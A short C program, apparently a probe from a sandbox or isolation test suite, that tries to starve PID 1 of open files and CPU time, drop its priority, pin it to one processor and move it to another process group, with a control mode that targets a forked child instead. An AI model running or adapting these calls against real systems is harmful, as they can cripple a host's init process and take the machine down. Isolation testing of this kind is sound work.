/* Limits, precedence and processors of PID 1, set so that it can no longer do its work. */
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>

int main(void) {
  pid_t target = 1;
  if (is_control() && (target = fork()) == 0)
    linger();
  struct rlimit none = {0, 0};
  cpu_set_t first;
  CPU_ZERO(&first);
  CPU_SET(0, &first);
  struct sched_param idle = {0};
  attempt("no open files for it", prlimit(target, RLIMIT_NOFILE, &none, NULL));
  attempt("no processor time for it", prlimit(target, RLIMIT_CPU, &none, NULL));
  attempt("the lowest precedence for it", setpriority(PRIO_PROCESS, target, 19));
  attempt("idle scheduling for it", sched_setscheduler(target, SCHED_IDLE, &idle));
  attempt("one processor for it", sched_setaffinity(target, sizeof first, &first));
  attempt("another process group for it", setpgid(target, 0));
  if (is_control()) kill(target, SIGKILL);
  return 7;
}
